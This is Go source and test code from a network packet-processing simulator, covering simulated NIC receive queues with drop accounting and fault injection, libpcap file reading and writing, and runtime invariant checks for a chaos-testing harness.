	out := q.Poll(10*simtime.Millisecond, 4096, pool, nil)
	if len(out) != 100 {
		t.Errorf("delivered %d, want 100", len(out))
	}
	for _, p := range out {
		pool.Put(p)
	}
}

func TestRxQueuePoolExhaustion(t *testing.T) {
	g := &gen.UDP4{FrameLen: 64, Seed: 1}
	q := NewRxQueue(0, 0, g, 1e6, 4096)
	pool := NewPacketPool("tiny", 10)
	out := q.Poll(simtime.Millisecond, 64, pool, nil)
	if len(out) != 10 {
		t.Errorf("delivered %d, want 10 (pool size)", len(out))
	}
	_, _, allocFailed := q.Stats()
	if allocFailed != 54 {
		t.Errorf("allocFailed = %d, want 54", allocFailed)
	}
}

func TestRxQueueRateChange(t *testing.T) {
	q, pool := newQueue(1e6, 100000)
	out := q.Poll(simtime.Millisecond, 100000, pool, nil) // 1000 pkts
	for _, p := range out {
		pool.Put(p)
	}
	q.SetRate(simtime.Millisecond, 2e6)
	out = q.Poll(2*simtime.Millisecond, 100000, pool, nil)
	if len(out) != 2000 {
		t.Errorf("after rate change received %d, want 2000", len(out))
	}
	// New-segment timestamps restart from the change point.
	if first := out[0].Arrival; first <= simtime.Millisecond {
		t.Errorf("first new-rate arrival %v, want > 1ms", first)
	}
	for _, p := range out {
		pool.Put(p)
	}
}

func TestRxQueueStopTime(t *testing.T) {
	q, pool := newQueue(1e6, 100000)
	q.SetStop(simtime.Millisecond)
	out := q.Poll(5*simtime.Millisecond, 100000, pool, nil)
	if len(out) != 1000 {
		t.Errorf("received %d after stop, want 1000", len(out))
	}
	for _, p := range out {
		pool.Put(p)
	}
}

func TestRxQueueZeroRate(t *testing.T) {
	q, pool := newQueue(0, 100)
	if out := q.Poll(simtime.Second, 64, pool, nil); len(out) != 0 {
		t.Errorf("zero-rate queue delivered %d packets", len(out))
	}
}

func TestPortQueueSplit(t *testing.T) {
	g := &gen.UDP4{FrameLen: 64, Seed: 2}
	hw := sysinfo.Port{ID: 3, Socket: 0, LineRateBps: 10e9}
	p := NewPort(hw, 7, g, 14e6, 4096)
	if len(p.Rx) != 7 {
		t.Fatalf("%d queues, want 7", len(p.Rx))
	}
	pool := NewPacketPool("t", 65536)
	total := 0
	for _, q := range p.Rx {
		out := q.Poll(simtime.Millisecond, 65536, pool, nil)
		total += len(out)
		for _, pk := range out {
			pool.Put(pk)
		}
	}
	if total != 7*2000 {
		t.Errorf("total delivered %d, want 14000 (14 Mpps over 1 ms)", total)
	}
}

func TestPortTransmitAccounting(t *testing.T) {
	hw := sysinfo.Port{ID: 0, Socket: 0, LineRateBps: 10e9}
	p := NewPort(hw, 1, &gen.UDP4{FrameLen: 64, Seed: 1}, 0, 64)
	p.TxM.Mark(0)
	for i := 0; i < 1000; i++ {
		p.Transmit(64)
	}
	pps, bps := p.TxM.RateSince(simtime.Millisecond)
	if math.Abs(pps-1e6) > 1 {
		t.Errorf("tx pps = %v, want 1e6", pps)
	}
	// 84 wire bytes per frame.
	if math.Abs(bps-672e6) > 1 {
		t.Errorf("tx bps = %v, want 672e6", bps)
	}
}

func TestOfferedPPS(t *testing.T) {
	g := &gen.UDP4{FrameLen: 64}
	pps := OfferedPPS(10e9, g)
	if math.Abs(pps-14_880_952.38) > 1 {
		t.Errorf("OfferedPPS = %v, want 14.88M", pps)
	}
}

func TestGeneratedPacketsParseAndSpread(t *testing.T) {
	// End-to-end sanity: polled packets are valid IPv4 and carry the RX
	// timestamp annotation.
	q, pool := newQueue(1e6, 4096)
	out := q.Poll(100*simtime.Microsecond, 256, pool, nil)
	if len(out) != 100 {
		t.Fatalf("got %d packets", len(out))
	}
	for _, p := range out {
		if err := packet.CheckIPv4(p.Data()[packet.EthHdrLen:]); err != nil {
			t.Fatalf("generated packet invalid: %v", err)
		}
		if p.Anno[packet.AnnoTimestamp] != uint64(p.Arrival) {
			t.Fatal("timestamp annotation not set")
		}
		pool.Put(p)
	}
}

func TestRxQueueFlap(t *testing.T) {
	// 1 Mpps, capacity 1000. Down at 1 ms: delivery stops, arrivals keep
	// accruing, and once the ring fills the excess drops. Up at 4 ms:
	// delivery resumes from the surviving backlog.
	q, pool := newQueue(1e6, 1000)
	var out []*packet.Packet
	out = q.Poll(simtime.Millisecond, 256, pool, out)
	if len(out) != 256 {
		t.Fatalf("pre-flap burst delivered %d, want 256", len(out))
	}

	q.SetDown(true)
	if !q.Down() {
		t.Fatal("Down() false after SetDown(true)")
	}
	for ms := 2; ms <= 4; ms++ {
		got := q.Poll(simtime.Time(ms)*simtime.Millisecond, 256, pool, nil)
		if len(got) != 0 {
			t.Fatalf("down queue delivered %d packets at %d ms", len(got), ms)
		}
	}
	// 4000 arrivals by now, 256 delivered, ring holds 1000: the rest is
	// overflow-dropped.
	_, dropped, _ := q.Stats()
	if want := uint64(4000 - 256 - 1000); dropped != want {
		t.Fatalf("dropped = %d while down, want %d", dropped, want)
	}

	q.SetDown(false)
	got := q.Poll(4*simtime.Millisecond+simtime.Microsecond, 256, pool, nil)
	if len(got) != 256 {
		t.Fatalf("recovered queue delivered %d, want full burst", len(got))
	}
	// Sequence numbers stay contiguous with arrival order: the first packet
	// after recovery follows the (final) dropped range.
	_, droppedNow, _ := q.Stats()
	if got[0].Seq != 256+droppedNow {
		t.Errorf("first post-flap seq = %d, want %d", got[0].Seq, 256+droppedNow)
	}
	for _, p := range out {
		pool.Put(p)
	}
	for _, p := range got {
		pool.Put(p)
	}
}

func TestBacklogUnderflowGuard(t *testing.T) {
	q, _ := newQueue(1e6, 4096)
	q.advance(simtime.Millisecond)

	// Corrupt the counters so delivered+dropped exceeds arrivals — the bug
	// class the guard exists for. Without debugChecks the uint64 subtraction
	// wraps; with it, backlog() must panic with the queue's identity and the
	// three counters in the message.
	saved := debugChecks
	defer func() { debugChecks = saved }()

	debugChecks = false
	q.delivered = q.arrivalsSeen + 3
	if b := q.backlog(); b < 1<<62 {
		t.Fatalf("expected wrapped backlog without debugChecks, got %d", b)
	}

	debugChecks = true
	defer func() {
		r := recover()
		if r == nil {
			t.Fatal("backlog underflow did not panic under debugChecks")
		}
		msg := fmt.Sprint(r)
		for _, want := range []string{"rx queue 0.0", "underflow", "delivered"} {
			if !strings.Contains(msg, want) {
				t.Fatalf("panic %q missing %q", msg, want)
			}
		}
	}()
	q.Backlog(simtime.Millisecond)
}
