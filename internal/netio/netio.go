// Package netio is the simulation substitute for the DPDK packet IO layer:
// multi-queue NIC ports with RSS, batched RX polling, line-rate accounting
// and drop counting (paper §3.1).
//
// Arrival processes are lazy: instead of scheduling one event per packet
// (15 Mpps would swamp the event queue), each RX queue computes how many
// packets have arrived since its last poll and materialises only the ones
// actually delivered in a burst. Deterministic arrival timestamps
// (k-th packet at start + (k+1)/rate) make latency measurements exact.
//
// RSS is modelled as a uniform spread of flows over a port's RX queues,
// which packet.FlowHash5's measured spread justifies; each queue owns
// 1/nqueues of the port's offered rate.
package netio

import (
	"fmt"
	"math"

	"nba/internal/invariant"
	"nba/internal/mempool"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/stats"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// Generator produces packet contents. Implementations live in internal/gen.
type Generator interface {
	// Fill writes the frame for the seq-th packet of the given port into p
	// and sets any metadata it wants. It must be deterministic in
	// (port, seq).
	Fill(p *packet.Packet, port int, seq uint64)
	// MeanFrameLen returns the average frame length in bytes, used to
	// convert offered Gbps to packets per second.
	MeanFrameLen() float64
}

// PacketPool is the mempool type RX queues draw buffers from.
type PacketPool = mempool.Pool[packet.Packet]

// NewPacketPool creates a packet mempool.
func NewPacketPool(name string, n int) *PacketPool {
	return mempool.New[packet.Packet](name, n, nil)
}

// RxQueue is one hardware RX queue of a port, owned by exactly one worker
// (shared-nothing).
type RxQueue struct {
	Port  int
	Queue int
	// Tenant is the tenant app graph this queue feeds (0 in single-tenant
	// runs). Multi-tenant ports carve their queue set tenant-major, so a
	// queue belongs to exactly one tenant and batches never mix tenants.
	Tenant int32

	gen      Generator
	capacity int

	// Arrival process state. The rate may change (workload shifts); each
	// segment accumulates arrivals from its base.
	rate      float64 // packets per second arriving at this queue
	baseTime  simtime.Time
	baseCount uint64       // arrivals before baseTime
	stopTime  simtime.Time // no arrivals after this (0 = unbounded)

	arrivalsSeen uint64 // arrivals accounted so far
	delivered    uint64
	dropped      uint64 // queue overflow drops
	allocFailed  uint64 // mempool exhaustion drops
	hwm          uint64 // backlog high watermark (post-drop, so ≤ capacity)
	down         bool   // fault-injected flap: no delivery, arrivals overflow

	// Tracer, when non-nil, receives rx / rx.drop events from Poll. Drops
	// are accounted delta-wise (overflow drops happen lazily in advance, so
	// each poll reports the drops accumulated since the previous one).
	Tracer           *trace.Tracer
	tracedDrops      uint64
	tracedAllocFails uint64

	// Checker, when non-nil, receives the queue's accounting after every
	// poll (the rxq.accounting invariant).
	Checker *invariant.Checker
}

// NewRxQueue creates a queue fed by gen at the given per-queue packet rate.
func NewRxQueue(port, queue int, gen Generator, ratePPS float64, capacity int) *RxQueue {
	if capacity <= 0 {
		panic(fmt.Sprintf("netio: rx queue capacity %d", capacity))
	}
	return &RxQueue{
		Port: port, Queue: queue,
		gen: gen, rate: ratePPS, capacity: capacity,
	}
}

// SetRate changes the arrival rate from time now on (workload change).
func (q *RxQueue) SetRate(now simtime.Time, ratePPS float64) {
	q.baseCount = q.totalArrivals(now)
	q.baseTime = now
	q.rate = ratePPS
}

// SetStop stops arrivals at time t.
func (q *RxQueue) SetStop(t simtime.Time) { q.stopTime = t }

// SetGenerator swaps the traffic generator (workload-change experiments).
// Sequence numbering continues, so determinism is preserved.
func (q *RxQueue) SetGenerator(gen Generator) { q.gen = gen }

// SetDown flaps the queue (fault injection). While down, Poll delivers
// nothing; arrivals keep accruing and overflow into the drop counters once
// the queue fills, exactly as a dead link's ring behaves. Coming back up
// resumes delivery from the surviving backlog.
//
// Offered load is NOT re-steered away from a down queue: the NIC's RSS hash
// does not know a ring died, so the queue keeps receiving its share of the
// port rate and sheds it by head-drop once the ring is full. Runs that end
// with a queue still down must call FinalizeAccounting so arrivals since the
// last poll land in the drop counters instead of vanishing.
func (q *RxQueue) SetDown(down bool) { q.down = down }

// FinalizeAccounting advances arrival and head-drop overflow accounting to
// now without delivering or emitting trace events. Core calls it once per
// queue at end of run so that load offered to a flapped-down (or simply
// unpolled) queue is accounted as overflow drops rather than lost silently
// between the last poll and the end of the run. Backlog still within
// capacity is stranded — arrived but never delivered — and stays out of both
// the drop counters and the conservation identity.
func (q *RxQueue) FinalizeAccounting(now simtime.Time) { q.advance(now) }

// totalArrivals returns how many packets have arrived by time now.
//
//nba:hotpath
func (q *RxQueue) totalArrivals(now simtime.Time) uint64 {
	if q.stopTime > 0 && now > q.stopTime {
		now = q.stopTime
	}
	if now <= q.baseTime || q.rate <= 0 {
		return q.baseCount
	}
	dt := (now - q.baseTime).Seconds()
	return q.baseCount + uint64(dt*q.rate)
}

// arrivalTime returns when the k-th arrival (0-based, in the current rate
// segment accounting) occurred. Exact for a constant-rate segment; after a
// rate change it is exact for packets arriving in the new segment.
//
//nba:hotpath
func (q *RxQueue) arrivalTime(k uint64) simtime.Time {
	if k < q.baseCount || q.rate <= 0 {
		return q.baseTime
	}
	idx := k - q.baseCount
	return q.baseTime + simtime.Time(math.Round(float64(idx+1)/q.rate*float64(simtime.Second)))
}

// Backlog returns the packets waiting in the queue at time now (also
// advancing overflow accounting).
func (q *RxQueue) Backlog(now simtime.Time) int {
	q.advance(now)
	return int(q.backlog())
}

// backlog computes arrivals − delivered − dropped. The subtraction is in
// uint64, so a counter bug (delivering or dropping more than arrived) would
// wrap to a huge positive backlog and corrupt every downstream decision;
// under debugChecks that underflow panics at the point of corruption.
//
//nba:hotpath
func (q *RxQueue) backlog() uint64 {
	accounted := q.delivered + q.dropped
	if debugChecks && accounted > q.arrivalsSeen {
		panic(fmt.Sprintf(
			"netio: rx queue %d.%d backlog underflow: delivered %d + dropped %d > arrivals %d",
			q.Port, q.Queue, q.delivered, q.dropped, q.arrivalsSeen))
	}
	return q.arrivalsSeen - accounted
}

// advance brings arrival and overflow accounting up to now. Overflowing
// packets are dropped from the head of the queue (oldest first), which
// keeps delivered sequence numbers contiguous with arrival order.
//
//nba:hotpath
func (q *RxQueue) advance(now simtime.Time) {
	q.arrivalsSeen = q.totalArrivals(now)
	if backlog := q.backlog(); backlog > uint64(q.capacity) {
		q.dropped += backlog - uint64(q.capacity)
	}
	if b := q.backlog(); b > q.hwm {
		q.hwm = b
	}
}

// HighWatermark returns the deepest backlog ever observed on the queue
// (after head-drop accounting, so it never exceeds the ring capacity).
func (q *RxQueue) HighWatermark() uint64 { return q.hwm }

// Capacity returns the queue's current ring capacity in packets.
func (q *RxQueue) Capacity() int { return q.capacity }

// SetCapacity re-sizes the ring at time now (runtime reconfiguration).
// Arrival accounting is brought up to date under the old capacity first;
// shrinking below the surviving backlog then head-drops the overflow,
// exactly as arrival overflow does, so the accounting identity is
// unaffected. Growing simply leaves more head-room.
func (q *RxQueue) SetCapacity(now simtime.Time, capacity int) {
	if capacity <= 0 {
		panic(fmt.Sprintf("netio: rx queue capacity %d", capacity))
	}
	q.advance(now)
	q.capacity = capacity
	q.advance(now) // head-drop any backlog the smaller ring cannot hold
}

// Poll delivers up to burst packets into out, drawing buffers from pool.
// It returns the packets received. Buffer-pool exhaustion drops packets
// (and counts them in AllocFailed).
//
//nba:hotpath
func (q *RxQueue) Poll(now simtime.Time, burst int, pool *PacketPool, out []*packet.Packet) []*packet.Packet {
	start := len(out)
	q.advance(now)
	backlog := q.backlog()
	n := uint64(burst)
	if n > backlog {
		n = backlog
	}
	if q.down {
		n = 0 // overflow accounting (and its trace events) still run above
	}
	for i := uint64(0); i < n; i++ {
		p, err := pool.Get()
		if err != nil {
			q.allocFailed++
			q.dropped++ // the frame is lost, like an rx_nombuf drop
			continue
		}
		seq := q.delivered + q.dropped
		q.gen.Fill(p, q.Port, seq)
		p.OrigLen = p.Length()
		p.Arrival = q.arrivalTime(seq)
		p.InPort = q.Port
		p.Seq = seq
		p.Anno[packet.AnnoTimestamp] = uint64(p.Arrival)
		p.Anno[packet.AnnoInPort] = uint64(q.Port)
		p.Tenant = q.Tenant
		out = append(out, p)
		q.delivered++
	}
	if q.Tracer != nil {
		if q.dropped > q.tracedDrops {
			q.Tracer.EmitT(now, trace.KindRxDrop, int32(q.Port), q.Tenant, "",
				int64(q.Queue), int64(q.dropped-q.tracedDrops), int64(q.allocFailed-q.tracedAllocFails), 0)
			q.tracedDrops = q.dropped
			q.tracedAllocFails = q.allocFailed
		}
		if delivered := len(out) - start; delivered > 0 {
			q.Tracer.EmitT(now, trace.KindRx, int32(q.Port), q.Tenant, "",
				int64(q.Queue), int64(delivered), int64(q.backlog()), 0)
		}
	}
	q.Checker.RxQueue(now, q.Port, q.Queue, q.arrivalsSeen, q.delivered, q.dropped, q.capacity)
	return out
}

// Down reports whether the queue is currently flapped down.
func (q *RxQueue) Down() bool { return q.down }

// Stats returns (delivered, overflow+alloc drops, alloc failures).
func (q *RxQueue) Stats() (delivered, dropped, allocFailed uint64) {
	return q.delivered, q.dropped, q.allocFailed
}

// Port is one simulated NIC port: RX queues plus TX accounting.
type Port struct {
	HW  sysinfo.Port
	Rx  []*RxQueue
	TxM stats.Meter
}

// NewPort creates a port with one RX queue per worker on its socket,
// splitting offeredPPS evenly (the RSS model).
func NewPort(hw sysinfo.Port, nqueues int, gen Generator, offeredPPS float64, queueCap int) *Port {
	p := &Port{HW: hw}
	for qi := 0; qi < nqueues; qi++ {
		p.Rx = append(p.Rx, NewRxQueue(hw.ID, qi, gen, offeredPPS/float64(nqueues), queueCap))
	}
	return p
}

// QueueSpec describes one RX queue of a multi-tenant port: the tenant it
// serves, that tenant's traffic generator and the queue's share of the
// port's offered rate.
type QueueSpec struct {
	Tenant int32
	Gen    Generator
	PPS    float64
}

// NewPortWithQueues creates a port with one RX queue per spec, in spec
// order. Multi-tenant core lays queues out tenant-major (tenant t's queue
// for same-socket worker w is index t*nworkers+w), so NewPort remains the
// single-tenant RSS special case of this constructor.
func NewPortWithQueues(hw sysinfo.Port, specs []QueueSpec, queueCap int) *Port {
	p := &Port{HW: hw}
	for qi, sp := range specs {
		q := NewRxQueue(hw.ID, qi, sp.Gen, sp.PPS, queueCap)
		q.Tenant = sp.Tenant
		p.Rx = append(p.Rx, q)
	}
	return p
}

// AddQueue appends one RX queue to the port mid-run (tenant admission).
// The queue starts with zero rate — the caller re-splits per-queue rates
// after the admit commit — and no arrivals accrue before `now` because the
// rate segment's base is anchored there.
func (p *Port) AddQueue(now simtime.Time, sp QueueSpec, queueCap int) *RxQueue {
	q := NewRxQueue(p.HW.ID, len(p.Rx), sp.Gen, 0, queueCap)
	q.Tenant = sp.Tenant //nbalint:allow sharedstate admit-epoch queue add on the serial engine; boot-time writes ran before Run started
	q.baseTime = now
	p.Rx = append(p.Rx, q) //nbalint:allow sharedstate admit-epoch queue add on the serial engine; NewSystem's reads ran before Run started and report's after it drains
	return q
}

// Transmit accounts one outgoing frame.
func (p *Port) Transmit(frameLen int) {
	p.TxM.Counter.Add(1, frameLen+sysinfo.WireOverheadBytes)
}

// RxStats sums the port's queue statistics.
func (p *Port) RxStats() (delivered, dropped, allocFailed uint64) {
	for _, q := range p.Rx {
		d, dr, af := q.Stats()
		delivered += d
		dropped += dr
		allocFailed += af
	}
	return
}

// OfferedPPS converts an offered wire-rate (bits per second) into packets
// per second for the generator's frame-size mix.
func OfferedPPS(offeredBps float64, gen Generator) float64 {
	return offeredBps / ((gen.MeanFrameLen() + sysinfo.WireOverheadBytes) * 8)
}
