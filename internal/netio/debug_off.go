//go:build !debugChecks

package netio

// debugChecks mirrors mempool's build-tag switch: `-tags debugChecks` turns
// accounting inconsistencies (RX-queue counter underflow) into panics at
// the point of corruption instead of silently clamped values. A variable,
// not a constant, so white-box tests can exercise the guard without the
// tag.
var debugChecks = false
