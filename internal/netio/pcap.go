package netio

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"

	"nba/internal/simtime"
)

// Pcap support: transmitted traffic can be captured and written in the
// classic libpcap file format, so simulated packet streams are inspectable
// with standard tools (tcpdump -r, Wireshark).

const (
	pcapMagic      = 0xa1b2c3d4
	pcapVersionMaj = 2
	pcapVersionMin = 4
	// LinkTypeEthernet is DLT_EN10MB.
	LinkTypeEthernet = 1
)

// CapturedPacket is one captured frame with its virtual timestamp.
type CapturedPacket struct {
	Time simtime.Time
	Data []byte
}

// WritePcap writes frames in libpcap format.
func WritePcap(w io.Writer, pkts []CapturedPacket) error {
	bw := bufio.NewWriter(w)
	var hdr [24]byte
	binary.LittleEndian.PutUint32(hdr[0:4], pcapMagic)
	binary.LittleEndian.PutUint16(hdr[4:6], pcapVersionMaj)
	binary.LittleEndian.PutUint16(hdr[6:8], pcapVersionMin)
	// thiszone, sigfigs = 0
	binary.LittleEndian.PutUint32(hdr[16:20], 65535) // snaplen
	binary.LittleEndian.PutUint32(hdr[20:24], LinkTypeEthernet)
	if _, err := bw.Write(hdr[:]); err != nil {
		return err
	}
	var rec [16]byte
	for _, p := range pkts {
		usec := uint64(p.Time / simtime.Microsecond)
		binary.LittleEndian.PutUint32(rec[0:4], uint32(usec/1e6))
		binary.LittleEndian.PutUint32(rec[4:8], uint32(usec%1e6))
		binary.LittleEndian.PutUint32(rec[8:12], uint32(len(p.Data)))
		binary.LittleEndian.PutUint32(rec[12:16], uint32(len(p.Data)))
		if _, err := bw.Write(rec[:]); err != nil {
			return err
		}
		if _, err := bw.Write(p.Data); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ReadPcap parses a libpcap file written by WritePcap (little-endian,
// Ethernet link type). It exists for tests and tooling round-trips.
func ReadPcap(r io.Reader) ([]CapturedPacket, error) {
	br := bufio.NewReader(r)
	var hdr [24]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return nil, fmt.Errorf("netio: pcap header: %w", err)
	}
	if binary.LittleEndian.Uint32(hdr[0:4]) != pcapMagic {
		return nil, fmt.Errorf("netio: not a little-endian pcap file")
	}
	if lt := binary.LittleEndian.Uint32(hdr[20:24]); lt != LinkTypeEthernet {
		return nil, fmt.Errorf("netio: unsupported link type %d", lt)
	}
	var pkts []CapturedPacket
	var rec [16]byte
	for {
		if _, err := io.ReadFull(br, rec[:]); err != nil {
			if err == io.EOF {
				return pkts, nil
			}
			return nil, fmt.Errorf("netio: pcap record header: %w", err)
		}
		sec := binary.LittleEndian.Uint32(rec[0:4])
		usec := binary.LittleEndian.Uint32(rec[4:8])
		caplen := binary.LittleEndian.Uint32(rec[8:12])
		if caplen > 1<<20 {
			return nil, fmt.Errorf("netio: implausible capture length %d", caplen)
		}
		data := make([]byte, caplen)
		if _, err := io.ReadFull(br, data); err != nil {
			return nil, fmt.Errorf("netio: pcap record body: %w", err)
		}
		pkts = append(pkts, CapturedPacket{
			Time: simtime.Time(sec)*simtime.Second + simtime.Time(usec)*simtime.Microsecond,
			Data: data,
		})
	}
}
