package netio

import (
	"testing"

	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/trace"
)

func TestPollEmitsRxAndDropEvents(t *testing.T) {
	q, pool := newQueue(1e6, 100) // 1 Mpps into a 100-slot queue
	tr := trace.New(trace.Options{})
	q.Tracer = tr

	// First poll at 1 ms: 1000 arrivals, 900 overflowed, burst of 64 drawn.
	out := q.Poll(simtime.Millisecond, 64, pool, nil)
	if len(out) != 64 {
		t.Fatalf("delivered %d, want 64", len(out))
	}
	evs := tr.Events()
	if len(evs) != 2 {
		t.Fatalf("got %d events, want drop+rx", len(evs))
	}
	if evs[0].Kind != trace.KindRxDrop || evs[0].B != 900 {
		t.Fatalf("drop event = %+v, want 900 drops", evs[0])
	}
	if evs[1].Kind != trace.KindRx || evs[1].B != 64 || evs[1].C != 100-64 {
		t.Fatalf("rx event = %+v, want 64 delivered, backlog 36", evs[1])
	}

	// Second poll drains the rest: drops are delta-accounted, so no new drop
	// event unless more overflow happened.
	q.Poll(simtime.Millisecond, 64, pool, out[:0])
	evs = tr.Events()
	last := evs[len(evs)-1]
	if last.Kind != trace.KindRx {
		t.Fatalf("second poll emitted %s, want rx only", last.Kind)
	}
	for _, ev := range evs[2:] {
		if ev.Kind == trace.KindRxDrop {
			t.Fatal("drop event repeated without new drops")
		}
	}
}

// flatGen is a non-allocating generator so AllocsPerRun isolates Poll itself
// (gen.UDP4 derives a fresh per-packet PRNG, which allocates).
type flatGen struct{}

func (flatGen) Fill(p *packet.Packet, port int, seq uint64) { p.SetLength(64) }
func (flatGen) MeanFrameLen() float64                       { return 64 }

func TestPollNoAllocsWithNilTracer(t *testing.T) {
	q := NewRxQueue(0, 0, flatGen{}, 1e9, 1<<20) // plenty of backlog every poll
	pool := NewPacketPool("test", 8192)
	out := make([]*packet.Packet, 0, 64)
	now := simtime.Microsecond
	warm := q.Poll(now, 64, pool, out)
	for _, p := range warm {
		pool.Put(p)
	}
	allocs := testing.AllocsPerRun(200, func() {
		now += simtime.Microsecond
		got := q.Poll(now, 64, pool, out[:0])
		for _, p := range got {
			pool.Put(p)
		}
	})
	if allocs != 0 {
		t.Fatalf("Poll with nil tracer allocates %v per call, want 0", allocs)
	}
}
