package invariant

import (
	"strings"
	"testing"

	"nba/internal/simtime"
)

const ms = simtime.Millisecond

func wantClean(t *testing.T, c *Checker) {
	t.Helper()
	if err := c.Err(); err != nil {
		t.Fatalf("unexpected violations: %v", err)
	}
}

func wantCheck(t *testing.T, c *Checker, check, msgSub string) {
	t.Helper()
	for _, v := range c.Violations() {
		if v.Check == check && strings.Contains(v.Msg, msgSub) {
			return
		}
	}
	t.Fatalf("no %q violation containing %q; have %v", check, msgSub, c.Violations())
}

func TestNilCheckerIsSafe(t *testing.T) {
	var c *Checker
	c.OnDispatch(ms)
	c.GPUTask(ms, "g", 1, 0, 1, 2, 3, 4)
	c.LBStep(ms, 0.5, 1)
	c.LBCollapse(ms, 0.25)
	c.LBUpdated(ms, 0.5)
	c.RxQueue(ms, 0, 0, 10, 5, 1, 64)
	c.DeviceUtil(ms, "g", ms, ms, 2*ms)
	c.PoolDrained(ms, nil)
	c.Conservation(ms, 1, 1, 0, 0, 0)
	c.CorruptLeak(ms, 0, 1)
	c.DeviceQueue(ms, "g", 5, 4)
	c.StuckDrain(ms, 1)
	c.EndOfRun(ms)
	c.Violatef(ms, CheckConservation, "x")
	if c.Err() != nil || c.Violations() != nil || c.Suppressed() != 0 {
		t.Fatal("nil checker reported state")
	}
}

func TestDispatchMonotonicity(t *testing.T) {
	c := New()
	c.OnDispatch(ms)
	c.OnDispatch(ms) // equal timestamps are fine
	c.OnDispatch(2 * ms)
	wantClean(t, c)
	c.OnDispatch(ms)
	wantCheck(t, c, CheckTimeMonotonic, "after one at")
}

func TestGPUPhaseOrdering(t *testing.T) {
	c := New()
	c.GPUTask(0, "gpu0", 1, 0, ms, 2*ms, 3*ms, 4*ms)
	// A task parked by a hang is rescheduled with its original (past)
	// submission time; that must not trip the check.
	c.GPUTask(10*ms, "gpu0", 2, 2*ms, 11*ms, 12*ms, 13*ms, 14*ms)
	wantClean(t, c)
	c.GPUTask(0, "gpu0", 3, 0, 2*ms, ms, 3*ms, 4*ms) // H2D before host done
	wantCheck(t, c, CheckGPUPhase, "task 3 phases out of order")
}

func TestLBBounds(t *testing.T) {
	c := New()
	c.LBStep(ms, 0.0, 0)
	c.LBUpdated(ms, 1.0)
	wantClean(t, c)
	c.LBUpdated(2*ms, 1.04)
	wantCheck(t, c, CheckLBBounds, "W = 1.04")
	c.LBStep(3*ms, -0.01, 0)
	wantCheck(t, c, CheckLBBounds, "W = -0.01")
}

func TestLBCollapseExpectation(t *testing.T) {
	// Failures observed at a step, collapse fires: clean.
	c := New()
	c.LBStep(ms, 0.5, 3)
	c.LBCollapse(ms, 0.25)
	c.LBStep(2*ms, 0.25, 0)
	c.EndOfRun(3 * ms)
	wantClean(t, c)

	// Failures observed, no collapse before the next step: violation.
	c = New()
	c.LBStep(ms, 0.5, 3)
	c.LBStep(2*ms, 0.54, 0)
	wantCheck(t, c, CheckLBCollapse, "never collapsed")

	// Failures observed at the last step of the run: EndOfRun flags it.
	c = New()
	c.LBStep(ms, 0.5, 1)
	c.EndOfRun(2 * ms)
	wantCheck(t, c, CheckLBCollapse, "run ended")
}

func TestRxQueueAccounting(t *testing.T) {
	c := New()
	c.RxQueue(ms, 0, 1, 100, 60, 40, 64)
	c.RxQueue(ms, 0, 1, 100, 30, 6, 64)
	wantClean(t, c)
	c.RxQueue(2*ms, 0, 1, 100, 80, 30, 64)
	wantCheck(t, c, CheckRxAccounting, "exceeds arrivals")
	c.RxQueue(3*ms, 1, 0, 200, 10, 0, 64)
	wantCheck(t, c, CheckRxAccounting, "backlog 190 exceeds capacity 64")
}

func TestDeviceUtil(t *testing.T) {
	c := New()
	c.DeviceUtil(ms, "gpu0", ms, ms, ms) // exactly 100% is legal
	c.DeviceUtil(ms, "idle", 0, 0, 0)    // never active: skipped
	wantClean(t, c)
	c.DeviceUtil(2*ms, "gpu0", 3*ms, ms, 2*ms)
	wantCheck(t, c, CheckGPUUtil, "kernel engine busy")
	c.DeviceUtil(2*ms, "gpu0", ms, 3*ms, 2*ms)
	wantCheck(t, c, CheckGPUUtil, "copy engine busy")
}

func TestConservation(t *testing.T) {
	c := New()
	c.Conservation(ms, 100, 90, 10, 0, 0)
	c.Conservation(ms, 100, 80, 10, 10, 0) // shed packets balance the identity
	c.Conservation(ms, 100, 80, 10, 5, 5)  // quarantined packets balance it too
	wantClean(t, c)
	c.Conservation(2*ms, 100, 95, 10, 0, 0) // double account
	wantCheck(t, c, CheckConservation, "diff +5")
	c.Conservation(3*ms, 100, 90, 5, 0, 0) // leak
	wantCheck(t, c, CheckConservation, "diff -5")
	c.Conservation(4*ms, 100, 90, 5, 15, 0) // shed over-account
	wantCheck(t, c, CheckConservation, "shed 15")
	c.Conservation(5*ms, 100, 90, 5, 0, 10) // quarantine over-account
	wantCheck(t, c, CheckConservation, "diff +5")
}

func TestCorruptLeak(t *testing.T) {
	c := New()
	c.CorruptLeak(ms, 3, 42)
	wantCheck(t, c, CheckCorruptLeak, "worker 3 transmitted corrupted packet seq 42")
}

func TestDeviceQueueBound(t *testing.T) {
	c := New()
	c.DeviceQueue(ms, "gpu0", 64, 64) // exactly at depth is legal
	c.DeviceQueue(ms, "gpu0", 12, 64)
	c.DeviceQueue(ms, "gpu0", 999, 0)  // unbounded queue: skipped
	c.DeviceQueue(ms, "gpu0", 999, -1) // ditto
	wantClean(t, c)
	c.DeviceQueue(2*ms, "gpu0", 65, 64)
	wantCheck(t, c, CheckQueueBound, "task queue at 65, over configured depth 64")
}

func TestPerCheckCapAndErr(t *testing.T) {
	c := New()
	for i := 0; i < maxPerCheck+10; i++ {
		c.Violatef(ms, CheckConservation, "breach %d", i)
	}
	if got := len(c.Violations()); got != maxPerCheck {
		t.Fatalf("stored %d violations, want cap %d", got, maxPerCheck)
	}
	if c.Suppressed() != 10 {
		t.Fatalf("suppressed = %d, want 10", c.Suppressed())
	}
	err := c.Err()
	if err == nil || !strings.Contains(err.Error(), "+10 suppressed") {
		t.Fatalf("Err() = %v, want suppressed count", err)
	}
}
