// Package invariant is the runtime oracle of the chaos harness: a set of
// framework-level correctness checks evaluated continuously while a run
// executes and once more at end of run. The checks encode what must hold in
// the simulation model *regardless of the fault plan* — NBA's robustness
// claim (paper §3.4) is not just "throughput degrades gracefully" but "the
// framework layer stays correct while devices misbehave": no packet is
// leaked or double-accounted, no engine is more than 100% busy, the
// balancer's offloading fraction never leaves [0,1], and virtual time never
// runs backwards.
//
// A Checker is attached to a run through core.Config.Checker and threaded
